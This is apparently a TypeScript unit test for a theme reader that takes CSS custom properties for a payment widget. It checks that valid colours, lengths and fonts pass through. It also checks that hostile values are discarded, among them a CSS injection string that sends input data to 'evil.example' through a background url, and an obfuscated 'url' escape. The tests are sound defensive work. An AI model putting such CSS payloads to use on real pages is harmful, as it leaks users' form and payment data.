import { expect } from '@open-wc/testing';

import { readTheme } from './theme.ts';

const themeOf = (values: Record<string, string>) =>
  readTheme({ getPropertyValue: (name) => values[name] ?? '' });

describe('theme', () => {
  it('carries plain colours, lengths and font names', () => {
    for (const accent of [
      '#0b6b4f',
      'rebeccapurple',
      'rgb(11, 107, 79)',
      'rgb(11 107 79 / 0.5)',
      'oklch(60% 0.1 160)',
    ]) {
      expect(themeOf({ '--service-pay-accent': ` ${accent} ` })).to.deep.equal({ accent });
    }
    expect(
      themeOf({
        '--service-pay-radius': '0.5rem',
        '--service-pay-font': '"Noto Sans", sans-serif',
      }),
    ).to.deep.equal({
      radius: '0.5rem',
      font: '"Noto Sans", sans-serif',
    });
  });

  it('drops everything else as if it were not there (T22)', () => {
    const hostile = [
      'x;} input{background:url(https://evil.example/?',
      'url(https://evil.example/)',
      'a'.repeat(10_000),
      'var(--x)',
      'expression(1)',
      '\\75rl(x)',
    ];
    for (const value of hostile) {
      const theme = themeOf({
        '--service-pay-accent': value,
        '--service-pay-radius': value,
        '--service-pay-font': value,
      });
      expect(theme, value.slice(0, 40)).to.deep.equal({});
    }
  });
});
